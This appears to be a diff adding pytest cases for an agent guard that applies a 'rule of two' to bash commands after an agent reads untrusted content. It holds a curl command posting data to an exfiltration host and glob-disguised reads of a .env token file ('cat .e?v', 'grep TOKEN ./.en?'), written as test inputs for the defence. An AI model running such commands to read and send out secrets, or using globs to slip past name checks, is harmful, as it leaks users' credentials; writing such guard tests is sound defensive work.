@@ -145,3 +145,22 @@ def test_a_sub_run_whose_task_was_written_after_untrusted_content_starts_tainted
     fresh = GuardContext(workspace=str(workspace), network="full", task_text=task)
     assert flow_guard.review(BashAction(command=f"curl -s -d 'budget 42k' {EXFIL}"), fresh).allowed
     assert FlowState.handed_down(None).sources == [] and FlowState.handed_down({}).task_from_untrusted is False
+
+
+@pytest.mark.parametrize("command", ["cat .e?v", "cat .e*", "head -n 3 ./.e[n]v", "grep TOKEN ./.en?"])
+def test_a_private_file_read_by_a_pattern_after_untrusted_content_is_the_rule_of_twos_third(flow_guard, workspace,
+                                                                                           command) -> None:
+    (workspace / ".env").write_text("TOKEN=tok-7f3a9c\n")
+    (workspace / "notes.txt").write_text("meeting notes\n")
+    ctx = _read_issue(flow_guard, workspace)  # untrusted content, and the network: the private read is the third
+    verdict = flow_guard.review(BashAction(command=command), ctx)
+    assert _asked(verdict, "flow:rule-of-two") and ".env" in verdict.reason, verdict
+
+
+@pytest.mark.parametrize("command", ["cat *.txt", "cat no-such-*.md", "wc -l n?tes.txt", "cat /usr/share/doc/*/README"])
+def test_patterns_that_match_no_private_file_read_as_before(flow_guard, workspace, command) -> None:
+    (workspace / ".env").write_text("TOKEN=tok-7f3a9c\n")  # `*` does not match a leading dot, as in bash
+    (workspace / "notes.txt").write_text("meeting notes\n")
+    ctx = _read_issue(flow_guard, workspace)
+    verdict = flow_guard.review(BashAction(command=command), ctx)
+    assert "flow:rule-of-two" not in (verdict.check or ""), verdict
